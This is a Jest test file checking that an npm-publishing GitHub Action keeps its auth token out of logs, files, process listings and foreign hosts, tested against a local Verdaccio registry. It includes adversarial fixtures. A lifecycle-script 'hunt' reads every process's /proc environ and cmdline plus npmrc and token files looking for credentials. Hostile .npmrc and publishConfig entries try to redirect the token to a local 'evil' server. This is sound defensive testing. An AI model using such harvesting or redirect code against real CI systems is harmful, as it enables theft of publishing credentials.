/**
 * Secret hygiene (DESIGN.md §4), end to end through dist/index.js against Verdaccio: the token
 * leaks nowhere, lingers nowhere, is out of reach of package code, and goes to no other host.
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import { execFile } from 'node:child_process'
import fs from 'node:fs'
import http from 'node:http'
import type { AddressInfo } from 'node:net'
import path from 'node:path'
import { promisify } from 'node:util'
import {
  makeSandbox,
  removeSandboxes,
  runAction,
  writePackage,
  type RunResult
} from '../scripts/lib/runner.mjs'
import { startVerdaccio, type Verdaccio } from '../scripts/lib/verdaccio.mjs'
import { findLeaks, leftovers, runSources } from './helpers/leaks.js'

const exec = promisify(execFile)
const PASSWORD = 'ci-password-1'
let registry: Verdaccio
let login: string
let realToken: string
let proxy: AliasProxy

/**
 * A loopback proxy in front of Verdaccio that accepts token *aliases* of any shape and forwards
 * them as the real token, so every token shape publishes for real. `onPut` sees each PUT before
 * it is forwarded: it may hold it (`hold`, never answered until `dropHeld`) or refuse it
 * (`refuse`). It records every request.
 */
class AliasProxy {
  readonly aliases = new Map<string, string>()
  readonly requests: { method?: string; url?: string; authorization?: string }[] = []
  onPut?: () => 'forward' | 'hold' | 'refuse'
  private readonly held = new Set<http.ServerResponse>()
  private server = http.createServer((req, res) => this.handle(req, res))
  url = ''

  async start(): Promise<void> {
    await new Promise<void>((resolve) => this.server.listen(0, '127.0.0.1', resolve))
    this.url = `http://127.0.0.1:${(this.server.address() as AddressInfo).port}/`
  }

  /** Ends every held PUT (its npm sees the connection drop and exits). */
  dropHeld(): void {
    for (const res of this.held) res.socket?.destroy()
    this.held.clear()
  }

  async close(): Promise<void> {
    this.dropHeld()
    this.server.closeAllConnections()
    await new Promise((resolve) => this.server.close(resolve))
  }

  private handle(req: http.IncomingMessage, res: http.ServerResponse): void {
    this.requests.push({
      method: req.method,
      url: req.url,
      authorization: req.headers.authorization
    })
    const headers = { ...req.headers }
    const bearer = /^Bearer (.+)$/.exec(headers.authorization ?? '')?.[1]
    if (bearer && this.aliases.has(bearer))
      headers.authorization = `Bearer ${this.aliases.get(bearer)}`
    const put = req.method === 'PUT' ? (this.onPut?.() ?? 'forward') : 'forward'
    if (put === 'hold') {
      this.held.add(res)
      req.resume()
      return
    }
    if (put === 'refuse') {
      req.resume()
      req.on('end', () =>
        res
          .writeHead(403, { 'content-type': 'application/json' })
          .end(JSON.stringify({ error: 'You do not have permission to publish this package' }))
      )
      return
    }
    const upstream = http.request(
      new URL(req.url ?? '/', registry.url),
      { method: req.method, headers },
      (answer) => {
        res.writeHead(answer.statusCode ?? 502, answer.headers)
        answer.pipe(res)
      }
    )
    req.pipe(upstream)
  }
}

/** A server that should never hear from the action: it records what reaches it. */
async function evilServer(): Promise<{ url: string; hits: string[]; close: () => Promise<void> }> {
  const hits: string[] = []
  const server = http.createServer((req, res) => {
    hits.push(`${req.method} ${req.url} auth=${req.headers.authorization ?? ''}`)
    res.writeHead(404, { 'content-type': 'application/json' }).end('{}')
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo
  return {
    url: `http://127.0.0.1:${port}/`,
    hits,
    close: async () => {
      server.closeAllConnections()
      await new Promise((resolve) => server.close(resolve))
    }
  }
}

/** What one process shows other processes of the same user. */
interface ProcessView {
  pid: string
  cmdline: string
  /** undefined: not readable. */
  environ?: string
}

/** Every process in /proc, as any process of this user can read it (cmdline and environ). */
function processes(): ProcessView[] {
  const read = (file: string): string | undefined => {
    try {
      return fs.readFileSync(file, 'latin1')
    } catch {
      return undefined
    }
  }
  return fs
    .readdirSync('/proc')
    .filter((name) => /^\d+$/.test(name))
    .map((pid) => ({
      pid,
      cmdline: (read(`/proc/${pid}/cmdline`) ?? '').split('\0').join(' '),
      environ: read(`/proc/${pid}/environ`)
    }))
}

beforeAll(async () => {
  registry = await startVerdaccio()
  login = await registry.createUser('ci', PASSWORD)
  realToken = (await registry.createToken(login, PASSWORD)).token
  proxy = new AliasProxy()
  await proxy.start()
})

afterAll(async () => {
  await proxy.close()
  await registry.stop()
  removeSandboxes()
})

const SHAPES: Record<string, string> = {
  'npm granular token': 'npm_Q2x9YkLm3Pz8RtW4vN7sHd6Jf5Gc1Ba0XeUo',
  'token with +/= characters': 'ab+cd/ef==gh+ij/kl==mn+op/qr==st+uv/wx==',
  'JWT-like token': 'eyJhbGciOiJIUzI1NiJ9.eyJuYW1lIjoiY2kifQ.c2lnbmF0dXJlLXZhbHVl'
}

describe.each(Object.entries(SHAPES))('leak scan with a %s', (_shape, alias) => {
  beforeAll(() => {
    proxy.aliases.set(alias, realToken)
  })

  const name = `hygiene-${Buffer.from(alias).toString('hex').slice(0, 10)}`
  const scan = (run: RunResult) => {
    expect(run.post?.exitCode).toBe(0)
    expect(leftovers(run.sandbox.runnerTemp)).toEqual([])
    expect(findLeaks(alias, runSources(run))).toEqual([])
  }

  it('leaves no trace after a successful publish', async () => {
    const sandbox = makeSandbox()
    writePackage(path.join(sandbox.workspace, 'pkg'), { name, version: '1.0.0' })
    const run = await runAction({
      inputs: { token: alias, registry: proxy.url, package: 'pkg' },
      sandbox
    })
    expect(run.main.exitCode).toBe(0)
    expect(run.outputs['published']).toBe('true')
    expect(
      proxy.requests.some((r) => r.method === 'PUT' && r.authorization === `Bearer ${alias}`)
    ).toBe(true)
    scan(run)
  })

  it('leaves no trace after a failed publish (npm had the token, the registry refused it)', async () => {
    const sandbox = makeSandbox()
    writePackage(path.join(sandbox.workspace, 'pkg'), { name, version: '1.1.0' })
    // token-check off, so npm itself sends the token and gets the refusal.
    let refused = 0
    proxy.onPut = () => (refused++, 'refuse')
    try {
      const run = await runAction({
        inputs: { token: alias, registry: proxy.url, package: 'pkg', 'token-check': 'off' },
        sandbox
      })
      expect(run.main.exitCode).toBe(1)
      expect(run.outputs['error-code']).toBe('PUBLISH_FORBIDDEN')
      expect(refused).toBeGreaterThan(0)
      expect(run.main.stdout).toContain('::group::npm publish')
      scan(run)
    } finally {
      proxy.onPut = undefined
    }
  })

  it('leaves no trace after a failed rerun (changed content: VERSION_CONFLICT)', async () => {
    const sandbox = makeSandbox()
    writePackage(
      path.join(sandbox.workspace, 'pkg'),
      { name, version: '1.0.0' },
      { 'changed.js': 'x' }
    )
    const run = await runAction({
      inputs: { token: alias, registry: proxy.url, package: 'pkg', 'token-check': 'off' },
      sandbox
    })
    expect(run.main.exitCode).toBe(1)
    expect(run.outputs['error-code']).toBe('VERSION_CONFLICT')
    scan(run)
  })

  it('leaves no trace after a dry run', async () => {
    const sandbox = makeSandbox()
    writePackage(path.join(sandbox.workspace, 'pkg'), { name, version: '2.0.0' })
    const run = await runAction({
      inputs: { token: alias, registry: proxy.url, package: 'pkg', 'dry-run': 'true' },
      sandbox
    })
    expect(run.main.exitCode).toBe(0)
    expect(run.outputs['dry-run']).toBe('true')
    scan(run)
  })
})

describe('credentials do not outlive the step', () => {
  const alias = 'npm_KillKillKillKillKillKillKillKill0000'

  beforeAll(() => {
    proxy.aliases.set(alias, realToken)
  })

  /** Starts a publish whose PUT the proxy holds; signals main once npm is waiting on it. */
  async function signalMidPublish(signal: NodeJS.Signals, skipPost: boolean) {
    const sandbox = makeSandbox()
    writePackage(path.join(sandbox.workspace, 'pkg'), {
      name: `hygiene-kill-${signal.toLowerCase()}`,
      version: '1.0.0'
    })
    let duringPublish: string[] = []
    try {
      const run = await runAction({
        inputs: { token: alias, registry: proxy.url, package: 'pkg' },
        sandbox,
        skipPost,
        onMainStart: (child) => {
          proxy.onPut = () => {
            proxy.onPut = undefined
            duringPublish = leftovers(sandbox.runnerTemp)
            child.kill(signal)
            return 'hold'
          }
        }
      })
      return { run, duringPublish }
    } finally {
      proxy.onPut = undefined
      proxy.dropHeld() // an npm orphaned by SIGKILL sees its upload end, and exits
    }
  }

  it('SIGKILL mid-publish: the post step removes what main left', async () => {
    const { run, duringPublish } = await signalMidPublish('SIGKILL', false)
    expect(run.main.signal).toBe('SIGKILL')
    expect(duringPublish).toHaveLength(1) // the private dir existed while npm published
    expect(duringPublish[0]).toMatch(/^npm-automation-publish-/)
    expect(run.post?.exitCode).toBe(0)
    expect(run.post?.stdout).toContain('Removed leftover private directory')
    expect(leftovers(run.sandbox.runnerTemp)).toEqual([])
    expect(findLeaks(alias, runSources(run))).toEqual([])
  })

  it('SIGTERM mid-publish: main scrubs by itself, says it was cancelled and exits 143', async () => {
    const { run, duringPublish } = await signalMidPublish('SIGTERM', true)
    expect(duringPublish).toHaveLength(1)
    expect(run.main.exitCode).toBe(143)
    expect(run.outputs['error-code']).toBe('CANCELLED')
    expect(run.main.stdout).toMatch(/^::error title=CANCELLED::The run was cancelled \(SIGTERM\)/m)
    expect(run.summary).toContain('<h2>⛔ Cancelled: CANCELLED</h2>')
    expect(leftovers(run.sandbox.runnerTemp)).toEqual([]) // before any post step
    expect(findLeaks(alias, runSources(run))).toEqual([])
  })

  it('SIGINT mid-publish: cancelled, exit 130, nothing left', async () => {
    const { run } = await signalMidPublish('SIGINT', true)
    expect(run.main.exitCode).toBe(130)
    expect(run.outputs['error-code']).toBe('CANCELLED')
    expect(run.main.stdout).toMatch(/^::error title=CANCELLED::The run was cancelled \(SIGINT\)/m)
    expect(leftovers(run.sandbox.runnerTemp)).toEqual([])
    expect(findLeaks(alias, runSources(run))).toEqual([])
  })

  it('while npm uploads, no process shows the token in its environ or command line', async () => {
    const sandbox = makeSandbox()
    writePackage(path.join(sandbox.workspace, 'pkg'), {
      name: 'hygiene-inflight',
      version: '1.0.0'
    })
    let views: ProcessView[] = []
    proxy.onPut = () => {
      proxy.onPut = undefined
      views = processes() // npm holds the token now, its PUT in flight
      return 'forward'
    }
    try {
      const run = await runAction({
        inputs: { token: alias, registry: proxy.url, package: 'pkg' },
        sandbox
      })
      expect(run.main.exitCode).toBe(0)
    } finally {
      proxy.onPut = undefined
    }
    const ours = (view: ProcessView): boolean =>
      view.environ?.includes(`RUNNER_TEMP=${sandbox.runnerTemp}\0`) ?? false
    // The scan is able: it read the environ of the action itself and of the npm publishing
    // (npm retitles itself, so its /proc/<pid>/cmdline reads `npm publish …`). A spare npm
    // loading for a later job may be there too.
    expect(views.filter((v) => ours(v) && /dist\/index\.js/.test(v.cmdline))).toHaveLength(1)
    expect(views.filter((v) => ours(v) && /^npm publish /.test(v.cmdline))).toHaveLength(1)
    const hits = views.filter(
      (v) => findLeaks(alias, { texts: { cmdline: v.cmdline, environ: v.environ ?? '' } }).length
    )
    expect(hits.map((v) => v.cmdline)).toEqual([])
  })
})

describe('package code never sees the token', () => {
  it('lifecycle scripts run before and after the credentials, and their hunt finds nothing', async () => {
    const sandbox = makeSandbox()
    const loot = path.join(sandbox.root, 'loot')
    fs.mkdirSync(loot)
    // Reads every file that might hold a credential, and the cmdline and environ of EVERY
    // process it can see: the action's own, the npm that runs the script, anything else.
    const hunt = `
const fs = require('fs'), path = require('path')
const script = process.env.npm_lifecycle_event
const found = []
const read = (source, file) => { try { found.push({ source, file, text: fs.readFileSync(file, 'latin1') }) } catch {} }
found.push({ source: 'env', text: JSON.stringify(process.env) })
found.push({ source: 'argv', text: process.argv.join(' ') })
const walk = (dir, depth) => {
  let entries = []
  try { entries = fs.readdirSync(dir, { withFileTypes: true }) } catch { return }
  for (const e of entries) {
    const full = path.join(dir, e.name)
    if (e.isDirectory() && depth < 6 && e.name !== 'node_modules') walk(full, depth + 1)
    else if (e.isFile() && /npmrc|\\.log$|token/i.test(e.name)) read('file', full)
  }
}
for (const dir of [process.env.HOME, process.env.RUNNER_TEMP, process.env.GITHUB_WORKSPACE, '/tmp']) walk(dir, 0)
const seen = []
for (const pid of fs.readdirSync('/proc').filter((p) => /^\\d+$/.test(p))) {
  let cmdline = ''
  try { cmdline = fs.readFileSync('/proc/' + pid + '/cmdline', 'latin1').split('\\0').join(' ') } catch {}
  found.push({ source: 'cmdline', pid, cmdline, text: cmdline })
  let environ
  try { environ = fs.readFileSync('/proc/' + pid + '/environ', 'latin1') } catch {}
  if (environ !== undefined) found.push({ source: 'environ', pid, cmdline, text: environ })
  seen.push({ pid, cmdline, environRead: environ !== undefined, runnerTemp: environ?.includes('RUNNER_TEMP=' + process.env.RUNNER_TEMP + '\\0') ?? false })
}
const credentialDirs = fs.readdirSync(process.env.RUNNER_TEMP).filter((n) => n.startsWith('npm-automation-publish-'))
fs.writeFileSync(path.join(${JSON.stringify(loot)}, script + '.json'), JSON.stringify({ script, credentialDirs, found, seen, pid: process.pid, ppid: process.ppid }))
`
    const scripts = Object.fromEntries(
      ['prepublishOnly', 'prepack', 'prepare', 'postpack', 'publish', 'postpublish'].map((s) => [
        s,
        'node hunt.js'
      ])
    )
    writePackage(
      path.join(sandbox.workspace, 'pkg'),
      { name: 'hygiene-scripts', version: '1.0.0', scripts },
      { 'hunt.js': hunt }
    )
    const run = await runAction({
      inputs: { token: realToken, registry: registry.url, package: 'pkg' },
      sandbox
    })
    expect(run.main.exitCode).toBe(0)
    expect(run.outputs['published']).toBe('true')
    const dumps = fs.readdirSync(loot).map(
      (file) =>
        JSON.parse(fs.readFileSync(path.join(loot, file), 'utf8')) as {
          script: string
          credentialDirs: string[]
          found: { source: string; pid?: string; cmdline?: string; text: string }[]
          seen: { pid: string; cmdline: string; environRead: boolean; runnerTemp: boolean }[]
          pid: number
        }
    )
    expect(dumps.map((d) => d.script).sort()).toEqual(
      ['postpack', 'postpublish', 'prepack', 'prepare', 'prepublishOnly', 'publish'].sort()
    )
    for (const dump of dumps) {
      expect(dump.credentialDirs).toEqual([]) // no credentials existed while the script ran
      // The hunt is able: it read the environ of the action's own process (whose initial
      // environment held INPUT_TOKEN until the action overwrote it) and of the npm running it.
      const visible = (pattern: RegExp) =>
        dump.seen.filter((p) => p.runnerTemp && p.environRead && pattern.test(p.cmdline))
      expect(visible(/dist\/index\.js/)).toHaveLength(1)
      // npm retitles itself: /proc/<pid>/cmdline reads `npm run <script>`.
      expect(visible(/^npm run |npm-cli\.js run /).length).toBeGreaterThanOrEqual(1)
      expect(dump.seen.filter((p) => p.environRead).length).toBeGreaterThan(3)
      // And it finds the token nowhere: not in a file, its env or argv, nor in any process.
      const hits = dump.found.filter(
        (f) => findLeaks(realToken, { texts: { x: f.text } }).length > 0
      )
      expect(hits.map((h) => `${h.source} ${h.pid ?? ''} ${h.cmdline ?? ''}`)).toEqual([])
    }
    expect(findLeaks(realToken, runSources(run))).toEqual([])
  })
})

describe('the token goes only to the named registry', () => {
  it('a hostile .npmrc in the package, the workspace, HOME and above RUNNER_TEMP cannot redirect it', async () => {
    const evil = await evilServer()
    try {
      const sandbox = makeSandbox()
      const hostile = [
        `registry=${evil.url}`,
        `@acme:registry=${evil.url}`,
        `//${new URL(evil.url).host}/:_authToken=\${NPM_AUTOMATION_PUBLISH_TOKEN}`,
        `//${new URL(evil.url).host}/:_authToken=\${INPUT_TOKEN}`,
        ''
      ].join('\n')
      fs.writeFileSync(path.join(sandbox.workspace, '.npmrc'), hostile)
      fs.writeFileSync(path.join(sandbox.home, '.npmrc'), hostile)
      fs.writeFileSync(path.join(sandbox.root, '.npmrc'), hostile) // RUNNER_TEMP's parent
      const userconfig = path.join(sandbox.root, 'setup-node.npmrc')
      fs.writeFileSync(userconfig, hostile)
      writePackage(
        path.join(sandbox.workspace, 'pkg'),
        { name: '@acme/hygiene-redirect', version: '1.0.0', publishConfig: { registry: evil.url } },
        { '.npmrc': hostile }
      )
      const run = await runAction({
        inputs: { token: realToken, registry: registry.url, package: 'pkg', access: 'public' },
        sandbox,
        env: {
          NPM_CONFIG_USERCONFIG: userconfig,
          npm_config_registry: evil.url,
          'npm_config_@acme:registry': evil.url,
          NODE_AUTH_TOKEN: 'inherited-node-auth-token'
        }
      })
      expect(run.main.exitCode).toBe(0)
      expect(run.outputs['published']).toBe('true')
      expect(await registry.packument('@acme/hygiene-redirect')).toBeDefined()
      expect(evil.hits).toEqual([])
      expect(run.post?.exitCode).toBe(0)
      expect(findLeaks(realToken, runSources(run))).toEqual([])
    } finally {
      await evil.close()
    }
  })

  it('a publishConfig proxy in a .tgz, or written by a prepack script, is refused before npm runs', async () => {
    const evil = await evilServer()
    try {
      // A tarball built elsewhere (the README's hardened pattern) carrying a hostile publishConfig.
      const sandbox = makeSandbox()
      const source = writePackage(path.join(sandbox.root, 'built'), {
        name: 'hygiene-proxy-tgz',
        version: '1.0.0',
        publishConfig: { proxy: evil.url, 'https-proxy': evil.url }
      })
      const { stdout } = await exec(
        'npm',
        ['pack', '--json', '--pack-destination', sandbox.workspace],
        { cwd: source }
      )
      const [{ filename }] = JSON.parse(stdout) as { filename: string }[]
      const tgz = await runAction({
        inputs: { token: realToken, registry: registry.url, package: filename },
        sandbox
      })
      expect(tgz.outputs['error-code']).toBe('PACKAGE_INVALID')
      expect(tgz.main.stdout).toMatch(/^::error title=PACKAGE_INVALID::.*"proxy"/m)
      expect(tgz.main.stdout).not.toContain('::group::npm publish')
      expect(tgz.post?.exitCode).toBe(0)
      expect(leftovers(tgz.sandbox.runnerTemp)).toEqual([])

      // A prepack script that slips the proxy in after the first read.
      const rewrite = `const fs = require('fs'); const p = JSON.parse(fs.readFileSync('package.json'));
p.publishConfig = { proxy: ${JSON.stringify(evil.url)} }; fs.writeFileSync('package.json', JSON.stringify(p))`
      const other = makeSandbox()
      writePackage(
        path.join(other.workspace, 'pkg'),
        { name: 'hygiene-proxy-script', version: '1.0.0', scripts: { prepack: 'node rewrite.js' } },
        { 'rewrite.js': rewrite }
      )
      const scripted = await runAction({
        inputs: { token: realToken, registry: registry.url, package: 'pkg' },
        sandbox: other
      })
      expect(scripted.outputs['error-code']).toBe('PACKAGE_INVALID')
      expect(scripted.main.stdout).toMatch(/^::error title=PACKAGE_INVALID::.*"proxy"/m)
      expect(scripted.main.stdout).toContain('::group::npm run prepack')
      expect(scripted.main.stdout).not.toContain('::group::npm publish')
      expect(evil.hits).toEqual([])
      expect(await registry.packument('hygiene-proxy-tgz')).toBeUndefined()
      expect(await registry.packument('hygiene-proxy-script')).toBeUndefined()
    } finally {
      await evil.close()
    }
  })
})
